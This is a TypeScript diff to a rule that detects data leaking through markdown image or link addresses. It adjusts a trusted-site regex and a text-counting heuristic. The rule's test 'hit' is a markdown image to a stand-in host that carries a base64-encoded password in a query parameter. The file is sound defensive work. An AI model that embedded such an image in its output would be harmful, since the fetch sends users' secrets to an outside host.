@@ -3,7 +3,7 @@ import { around, unlessMentioned } from "./mention.ts";
 
 /** Sites that are asked by words in their addresses, and those that draw what stands in it. */
 const askedByAddress =
-  /\/\/(?:[\w-]{1,40}\.){0,3}(?:google|bing|duckduckgo|wikipedia|github|githubusercontent|youtube|stackoverflow|shields|quickchart|image-charts|googleapis|qrserver|codecogs|plantuml|kroki|mermaid|openstreetmap|twitter|x|facebook|linkedin|wa|reddit|amazon|localhost)\.\w{2,3}[/:?]|^\S{0,8}https?:\/\/localhost|share|intent|search|subject=|title=/iu;
+  /\/\/(?:[\w-]{1,40}\.){0,3}(?:google|bing|duckduckgo|wikipedia|github|githubusercontent|youtube|stackoverflow|shields|quickchart|image-charts|googleapis|qrserver|codecogs|plantuml|kroki|mermaid|openstreetmap|twitter|x|facebook|linkedin|wa|reddit|amazon)\.(?:com|org|net|io|me)[/:?]|^\S{0,8}https?:\/\/localhost/iu;
 
 /** Whether a parameter of an address is text that somebody can read, plain or in base64. */
 function carriesText(match: RuleMatch): number {
@@ -13,10 +13,11 @@ function carriesText(match: RuleMatch): number {
   const value = match.text.slice(match.start, match.end).replace(/^[^=]{0,300}=/u, "");
   const said = readable(value) ?? readable(fromBase64(value)) ?? "";
   const words = said.split(/[^\p{L}\p{N}@.]+/u).filter((word) => /^\p{L}{2,}/u.test(word)).length;
-  const isPicture = address.startsWith("![") || address.startsWith("]") || address.startsWith("src=");
-  // A few plain words name a place or a caption; more of them, or what somebody encoded, is a message.
+  const isPicture = address.startsWith("![") || address.startsWith("src=") || whole.includes("![");
   const isEncoded = readable(value)?.replace(/\S/gu, "") === undefined;
-  return words >= (isEncoded ? 3 : isPicture ? 5 : 6) ? 1 : 0;
+  // Plain words in a link are what somebody fills a form with; in a picture a few are a caption.
+  if (!isEncoded && !isPicture) return 0;
+  return words >= (isEncoded ? 3 : 5) ? 1 : 0;
 }
 
 /** A text of printable characters with its %xx and + read; undefined where it is none. */
@@ -49,7 +50,7 @@ export const exfiltrationAddressRules: readonly RuleSpec[] = [
     pattern: `(?:\\]\\(|\\]: |src=["'])https?://[^)\\s"'<>?]{3,160}[?&][^)\\s"'<>]{0,200}?(?<![\\w])[A-Za-z_]{1,10}=(?<value>[^)\\s"'<>&]{12,600})(?=[)\\s"'<>&]|$)`,
     points: 0.7,
     what: "an image or link whose address carries text",
-    why: "Readable text in a parameter, plain or in base64, is gone once the address is fetched. Ordinary parameters are short, numbers or tokens.",
+    why: "Readable text in a parameter, plain or in base64, is gone once the address is fetched. Links fill in forms with plain words, so those count in pictures alone.",
     hits: ["![x](https://c.example/p.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIh)"],
     misses: ["![x](https://images.example/photo-150?ixlib=rb-4.0.3&q=80)"],
     confirm: carriesText,
